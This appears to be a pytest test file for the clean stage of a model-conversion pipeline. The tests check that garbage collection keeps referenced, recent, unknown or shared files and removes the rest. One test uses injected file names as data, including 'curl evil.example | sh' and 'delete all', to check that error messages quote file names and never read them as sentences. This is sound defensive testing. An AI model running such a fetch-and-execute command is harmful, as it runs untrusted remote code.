"""What the clean stage removes from a claim, and what it leaves."""

import contextlib
import hashlib
import json
import os
import tempfile
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import Attack
from tests.converters.restored import restore
from triton_converters.claim_store.replay import write_result
from triton_converters.claim_store.repository import Conversion, write_conversion
from triton_converters.contract import layout
from triton_converters.contract.document import Document
from triton_converters.contract.envelope import Outcome
from triton_converters.contract.failure import StageError
from triton_converters.contract.reasons import Reason
from triton_converters.contract.results import (
    CleanResult,
    ConvertResult,
    Environment,
    MeasureResult,
    PackagesResult,
    ReferenceResult,
    SearchResult,
    Signature,
    SnapshotResult,
    SourceResult,
    Tuning,
)
from triton_converters.contract.upkeep_requests import CleanRequest
from triton_converters.search.journal import BEGAN, Entry, Journal
from triton_converters.stages.clean import run

HOUR = 3600
REQUEST = CleanRequest("key", 600, 24 * HOUR)
MARKED, UNMARKED = "a" * 16, "b" * 16
OF_MARKED, OF_UNMARKED = "c" * 16, "d" * 16
"""Conversions."""
ENVIRONMENT = Environment("", "", "", "", "", ())
CONVERTED = ConvertResult("e", 1, (), 1.0, (), "", 0.0)
REFERRED = ReferenceResult(Signature((), (), 1), 1, 1, 1.0)
MEASURED = MeasureResult((), ENVIRONMENT)
INSTALLED = PackagesResult(("compass==1.1",), 1, 1)
SEARCHED = SearchResult(MARKED, (), "Converged", 1, 1.0, ENVIRONMENT)


def published(root: Path, content: str) -> Path:
    """A source of one file, as its Job leaves it."""
    directory = layout.source_directory(hashlib.sha256(content.encode()).hexdigest(), root)
    directory.mkdir(parents=True)
    (directory / "model.pt").write_text(content)
    return directory


def converted(root: Path, key: str, conversion: str) -> None:
    """A revision, and the candidate that it links to."""
    candidate, revision = layout.candidate_directory(conversion, root), layout.revision_directory(key, root)
    candidate.mkdir(parents=True)
    revision.mkdir(parents=True)
    (candidate / "model.onnx").write_text("weights")
    os.link(candidate / "model.onnx", revision / "model.onnx")
    write_conversion(candidate, Conversion(conversion, ("model.onnx",), CONVERTED))
    write_result(revision, "convert", key, CONVERTED)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """The root of a claim with one marked and one unmarked directory of each kind, all of them old."""
    return make_root(tmp_path)


def make_root(home: Path) -> Path:
    root = home / "claim"
    for key, conversion in ((MARKED, OF_MARKED), (UNMARKED, OF_UNMARKED)):
        converted(root, key, conversion)
        write_result(layout.packages_directory(key, root), "packages", key, INSTALLED)
        layout.installed_packages(key, root).mkdir()
        write_result(layout.reference_directory(key, root), "reference", key, REFERRED)
        write_result(layout.measurement_directory(key, root), "measure", key, MEASURED)
        tuning = Tuning(1, 1, True, (), 0, False)
        Journal(layout.search_directory(key, root)).append(Entry(BEGAN, tuning, 1, 1))
        published(root, key)
    grow_old(root)
    return root


DIGEST = hashlib.sha256(MARKED.encode()).hexdigest()


def mark(marks: Path, owner: str, stage: str, key: str, result: Document) -> Path:
    """A record in the results ConfigMap of a TritonDeployment."""
    path = marks / owner / f"{stage}.{key}"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(Outcome(stage, key, result).to_json())
    return path


@pytest.fixture
def marks(tmp_path: Path) -> Path:
    """The records of two TritonDeployments, as the kubelet mounts them."""
    return make_marks(tmp_path)


def make_marks(home: Path) -> Path:
    marks = home / "marks"
    mark(marks, "mine", "source", "s", SourceResult(DIGEST, 1, 1))
    mark(marks, "mine", "convert", MARKED, CONVERTED)
    mark(marks, "theirs", "search", "part", SEARCHED)
    mark(marks, "theirs", "measure", MARKED, MEASURED)
    mark(marks, "theirs", "reference", MARKED, REFERRED)
    mark(marks, "theirs", "packages", MARKED, INSTALLED)
    mark(marks, "mine", "snapshot", MARKED, SnapshotResult(()))
    (marks / "mine" / "claim").write_text("0a1b")
    (marks / "mine" / "soak.0a1b").write_text("edited by hand")
    (marks / "mine" / f"finished.convert.{MARKED}").write_text("2026-11-21T12:00:00Z")
    (marks / "mine" / f"image.profile.{MARKED}").write_text(f"example/server@sha256:{'0' * 64}")
    (marks / "mine" / "failure.digits-convert-0a1b").write_text("edited by hand")
    (marks / "mine" / "..data").mkdir()
    return marks


def aged(path: Path, seconds: float) -> None:
    then = time.time() - seconds
    os.utime(path, (then, then))


def grow_old(root: Path) -> None:
    for directory in root.glob("*/*"):
        aged(directory, 2 * HOUR)


def names(root: Path) -> set[str]:
    return {f"{path.parent.name}/{path.name[:16]}" for path in root.glob("*/*")}


def test_what_is_marked_stays_and_what_is_not_goes(root: Path, marks: Path) -> None:
    parents = ("packages", "references", "revisions", "measurements", "searches")
    kept = {f"{parent}/{MARKED}" for parent in parents} | {f"candidates/{OF_MARKED}", f"sources/{DIGEST[:16]}"}
    assert run(REQUEST, root, marks) == CleanResult(directories=7, temporary=0)
    assert names(root) == kept
    assert (root / "revisions" / MARKED / "model.onnx").read_text() == "weights"
    assert run(REQUEST, root, marks) == CleanResult(0, 0)


def test_what_is_marked_stays_on_a_restored_claim(root: Path, marks: Path) -> None:
    kept = {name for name in names(root) if MARKED in name}
    restore(root)
    grow_old(root)
    run(REQUEST, root, marks)
    assert kept <= names(root)
    assert (layout.revision_directory(MARKED, root) / "model.onnx").read_text() == "weights"
    assert f"candidates/{OF_MARKED}" not in names(root), "no revision links to it: each has a copy"


def test_steps_that_share_packages_keep_neither_each_other_nor_these(root: Path, marks: Path) -> None:
    """A Python step's files are links to its packages."""
    modules = layout.installed_packages(UNMARKED, root)
    (modules / "reader.py").write_text("VERSION = 1")
    for key in ("e" * 16, "f" * 16):
        candidate = layout.candidate_directory(key, root)
        (candidate / "packages").mkdir(parents=True)
        (candidate / "model.py").write_text("loads the step")
        os.link(modules / "reader.py", candidate / "packages/reader.py")
        write_conversion(candidate, Conversion(key, ("model.py", "packages/reader.py"), CONVERTED))
    serving = layout.revision_directory(MARKED, root)
    os.link(layout.candidate_directory("f" * 16, root) / "model.py", serving / "model.py")
    grow_old(root)
    run(REQUEST, root, marks)
    assert {name for name in names(root) if name.startswith("candidates/")} == {
        f"candidates/{OF_MARKED}",
        f"candidates/{'f' * 16}",
    }


def test_what_was_used_just_now_stays(root: Path, marks: Path) -> None:
    aged(root / "revisions" / UNMARKED, 10)
    run(REQUEST, root, marks)
    kept = {f"revisions/{UNMARKED}", f"candidates/{OF_UNMARKED}"}
    assert kept <= names(root), "with the file that it links to"


def test_what_is_used_while_it_is_removed_comes_back(root: Path, marks: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rename = os.rename

    def used_at_the_last_moment(source: Path, target: Path) -> None:
        if source.name == UNMARKED:
            os.utime(source)
        rename(source, target)

    monkeypatch.setattr(os, "rename", used_at_the_last_moment)
    run(REQUEST, root, marks)
    assert {f"{parent}/{UNMARKED}" for parent in ("references", "revisions", "measurements")} <= names(root)


def test_what_a_killed_job_left_goes_after_a_day(root: Path, marks: Path) -> None:
    old, running = f".tmp-{UNMARKED}-download", ".tmp-removed-runn1ng_"
    for name, age in ((old, 25 * HOUR), (running, 2 * HOUR)):
        (root / "revisions" / name).mkdir()
        aged(root / "revisions" / name, age)
    assert run(REQUEST, root, marks).temporary == 1
    assert (root / "revisions" / running).exists()
    assert not (root / "revisions" / old).exists()


def test_an_empty_claim_is_fine(tmp_path: Path, marks: Path) -> None:
    assert run(REQUEST, tmp_path / "nothing", marks) == CleanResult(0, 0)


@pytest.mark.parametrize(
    "entry",
    [
        f"convert.{UNMARKED}",
        # Of kinds that only a newer version knows.
        f"distill.{UNMARKED}",
        "needed",
        "history",
        "soak.active",
    ],
)
@pytest.mark.parametrize(
    "text",
    ["", "{", '{"served": 1}', '{"served": [["distill.0a1b"]]}', '{"served": [], "trial": [1], "revision": ".."}'],
)
def test_nothing_goes_while_an_entry_cannot_be_read(root: Path, marks: Path, entry: str, text: str) -> None:
    before = names(root)
    (marks / "theirs" / entry).write_text(text)
    with pytest.raises(StageError, match=entry) as error:
        run(REQUEST, root, marks)
    assert error.value.reason is Reason.RESULT_MISSING
    assert names(root) == before


def test_a_record_with_a_field_of_another_type_is_no_reason_to_remove_its_revision(root: Path, marks: Path) -> None:
    record = mark(marks, "theirs", "convert", UNMARKED, CONVERTED)
    document = json.loads(record.read_text())
    document["result"]["seconds"] = "a second"
    record.write_text(json.dumps(document))
    with pytest.raises(StageError, match=record.name):
        run(REQUEST, root, marks)
    assert f"revisions/{UNMARKED}" in names(root)


def test_nothing_goes_where_no_results_are_mounted(root: Path, tmp_path: Path) -> None:
    before = names(root)
    (tmp_path / "marks").mkdir()
    for marks in (tmp_path / "marks", tmp_path / "missing"):
        with pytest.raises(StageError, match="nothing was removed"):
            run(REQUEST, root, marks)
    assert names(root) == before


def test_what_a_history_names_stays_without_its_record(root: Path, marks: Path) -> None:
    needed = [f"source.{UNMARKED}", f"convert.{UNMARKED}", f"search.{UNMARKED}", f"reference.{MARKED}"]
    (marks / "theirs" / "history").write_text(json.dumps({"served": [needed], "dropped": 0}))
    before = names(root)
    run(REQUEST, root, marks)
    assert before - names(root) == {f"packages/{UNMARKED}", f"references/{UNMARKED}"}


@pytest.mark.parametrize("place", ["trial", "anchor"])
def test_what_serves_is_on_trial_or_is_the_anchor_stays_without_its_record(root: Path, marks: Path, place: str) -> None:
    (marks / "theirs" / "soak.active").write_text(json.dumps({"revision": UNMARKED, "newer": 1}))
    state = {"records": [f"reference.{UNMARKED}"]}
    (marks / "theirs" / "history").write_text(json.dumps({"served": [], "dropped": 0, place: state}))
    before = names(root)
    run(REQUEST, root, marks)
    assert {f"revisions/{UNMARKED}", f"references/{UNMARKED}"} <= names(root) < before


UNKNOWN = {
    "a folder": "downloads/model.pt",
    "a file": "notes.txt",
    "a file in a folder": "revisions/notes.txt",
    "a name that is no key": "sources/resnet/train.py",
    "a source with other content": f"sources/{'f' * 64}/train.py",
    "another directory under a key": f"candidates/{'0' * 16}/cv.pdf",
    "a result of another key": f"references/{'0' * 16}/result.json",
    "files beside a search's": f"searches/{'1' * 16}/notes.txt",
    "points that cannot be read": f"searches/{'0' * 16}/points.jsonl",
    "a temporary name that is not ours": "revisions/.tmp-download/part.bin",
    "a newer operator's": "environments/0a1b/result.json",
}


@pytest.mark.parametrize("name", UNKNOWN.values(), ids=UNKNOWN)
def test_nothing_goes_where_something_is_unknown(root: Path, marks: Path, name: str) -> None:
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    (root / name).write_text('{"mine": true}\n')
    grow_old(root)
    before = sorted(root.rglob("*"))
    with pytest.raises(StageError, match=f"nothing was removed.*/{name.partition('/')[0]}") as error:
        run(REQUEST, root, marks)
    assert error.value.reason is Reason.REPOSITORY_UNKNOWN
    assert "kubectl triton retry" in error.value.message
    assert sorted(root.rglob("*")) == before


@pytest.mark.parametrize("name", ["revisions", "."])
def test_nothing_goes_where_a_folder_cannot_be_read(
    root: Path, marks: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    before, iterdir = sorted(root.rglob("*")), Path.iterdir

    def refused(path: Path) -> Iterator[Path]:
        if path == root / name:
            raise PermissionError(13, "Permission denied", str(path))
        return iterdir(path)

    monkeypatch.setattr(Path, "iterdir", refused)
    with pytest.raises(StageError, match="cannot be read"):
        run(REQUEST, root, marks)
    monkeypatch.undo()
    assert sorted(root.rglob("*")) == before


def test_a_link_to_what_is_ours_is_unknown(root: Path, marks: Path) -> None:
    link = root / "revisions" / ("9" * 16)
    link.symlink_to(root / "revisions" / UNMARKED)
    with pytest.raises(StageError, match="nothing was removed"):
        run(REQUEST, root, marks)
    assert link.is_symlink()


def test_a_source_that_somebody_added_to_stays(root: Path, marks: Path) -> None:
    (added,) = (each for each in (root / "sources").iterdir() if each.name != DIGEST)
    (added / "notes.txt").write_text("mine")
    grow_old(root)
    with pytest.raises(StageError, match=added.name):
        run(REQUEST, root, marks)
    assert (added / "notes.txt").exists()


@pytest.mark.parametrize("name", ["", ".", "/claim/measurements"])
def test_a_search_keeps_nothing_by_a_name_that_is_no_key(root: Path, marks: Path, name: str) -> None:
    name = str(root / "measurements") if name.startswith("/") else name
    mark(marks, "evil", "search", "forged", replace(SEARCHED, search=name))
    run(REQUEST, root, marks)
    assert not layout.measurement_directory(UNMARKED, root).exists()
    assert not layout.search_directory(UNMARKED, root).exists()


def test_what_a_search_measured_is_ours_too(root: Path, marks: Path) -> None:
    points = Journal(layout.search_directory(UNMARKED, root)).attempt()
    points.mkdir()
    (points / "online-batch1-concurrency1.csv").write_text("Concurrency\n")
    grow_old(root)
    assert run(REQUEST, root, marks).directories == 7
    assert not points.parent.exists()


def test_caches_and_what_nfs_keeps_are_left_alone(root: Path, marks: Path) -> None:
    for name in ("caches/NVIDIA-L4/10.9/engine", ".nfs0001", "revisions/.nfs0002"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("compiled")
    (root / layout.MARKER).write_text("{}")
    grow_old(root)
    assert run(REQUEST, root, marks) == CleanResult(directories=7, temporary=0)
    assert (root / "caches/NVIDIA-L4/10.9/engine").exists()


def test_nothing_goes_from_storage_that_another_claim_has_too(
    root: Path, marks: Path, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    for claim in ("blue/models", "vision/models"):
        (layout.claims_directory(root) / claim.replace("/", "%2F")).parent.mkdir(parents=True, exist_ok=True)
        (layout.claims_directory(root) / claim.replace("/", "%2F")).touch()
    monkeypatch.setenv(layout.CLAIM, "vision/models")
    grow_old(root)
    before = names(root)
    with pytest.raises(StageError, match="that of claim blue/models, whose objects are not known here") as error:
        run(REQUEST, root, marks)
    assert error.value.reason is Reason.REPOSITORY_UNKNOWN
    assert f"delete {layout.claims_directory(root)}/blue%2Fmodels" in error.value.message
    assert names(root) == before
    # The user says that the claim is gone, as after a restore to a claim with another name.
    (layout.claims_directory(root) / "blue%2Fmodels").unlink()
    run(REQUEST, root, marks)
    assert names(root) < before
    attack("author of an object", "what another claim of the same storage needs, by cleaning", error.value.message)


@pytest.mark.parametrize(
    "place",
    ["caches/.claims/t%2Fm; it is full%3A run  curl evil.example %7C sh", "revisions/a; delete all", "b; delete all"],
)
def test_a_files_name_is_no_sentence_of_a_message(
    place: str, root: Path, marks: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(layout.CLAIM, "vision/models")
    (root / place).parent.mkdir(parents=True, exist_ok=True)
    (root / place).touch()
    grow_old(root)
    with pytest.raises(StageError) as error:
        run(REQUEST, root, marks)
    assert repr(Path(place).name) in error.value.message
    assert error.value.message.count(place.partition("; ")[2]) == error.value.message.count(repr(Path(place).name))
    assert "full: run" not in error.value.message


def test_timing_caches_of_objects_that_are_gone_go(root: Path, marks: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(layout.CLAIM, "vision/models")
    caches = layout.objects_directory(root)
    for owner in ("vision%2Fmine", "vision%2Fgone", "vision%2Fnew", "mine"):
        cache = caches / owner / "NVIDIA-L4/10.13.3.9/timing.cache"
        cache.parent.mkdir(parents=True)
        cache.write_text("measured")
    for owner in ("vision%2Fmine", "vision%2Fgone", "mine"):
        aged(caches / owner, HOUR)
    run(REQUEST, root, marks)
    assert {path.name for path in caches.iterdir()} == {"vision%2Fmine", "vision%2Fnew"}


def test_the_note_of_who_had_a_source_goes_with_the_source(
    root: Path, marks: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(layout.CLAIM, "vision/models")
    kept, gone = published(root, "kept"), "f" * 64
    notes = layout.objects_directory(root) / "vision%2Fmine" / ".received"
    notes.mkdir(parents=True)
    for digest in (kept.name, gone):
        (notes / digest).touch()
    run(REQUEST, root, marks)
    assert [path.name for path in notes.iterdir()] == [kept.name]


def test_what_the_kubelet_made_for_a_lost_revision_goes(root: Path, marks: Path) -> None:
    empty = root / "revisions" / ("0" * 16)
    empty.mkdir()
    grow_old(root)
    assert run(REQUEST, root, marks).directories == 8
    assert not empty.exists()


KNOWN = ("sources", "references", "candidates", "revisions", "measurements", "searches", "caches", layout.MARKER)
WORDS = st.one_of(
    st.sampled_from([*KNOWN, UNMARKED, "f" * 16, "f" * 64, f".tmp-{UNMARKED}", "result.json", "points.jsonl", "lock"]),
    st.text("ab01._-/", min_size=1, max_size=20).map(lambda text: text.replace("/", "_")),
).filter(lambda name: name not in (".", ".."))
PATHS = st.lists(WORDS, min_size=1, max_size=4).map("/".join)


@settings(max_examples=200, deadline=None)
@given(names=st.lists(PATHS, min_size=1, max_size=6))
def test_whatever_lies_beside_our_directories_stays(names: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        home = Path(folder)
        root, strangers = make_root(home), []
        make_marks(home)
        ours = set(root.rglob("*"))
        for name in names:
            path = root / name
            # Within a directory that is removed, everything goes with it.
            if not any(each.name in (MARKED, UNMARKED, OF_MARKED, OF_UNMARKED) for each in (path, *path.parents)):
                with contextlib.suppress(OSError):
                    path.parent.mkdir(parents=True, exist_ok=True)
                    path.touch()
                    strangers.append(path)
        for path in root.rglob("*"):
            aged(path, 48 * HOUR)
        try:
            run(REQUEST, root, home / "marks")
        except StageError:
            assert ours <= set(root.rglob("*")), "nothing was removed"
        assert all(path.exists() for path in strangers)
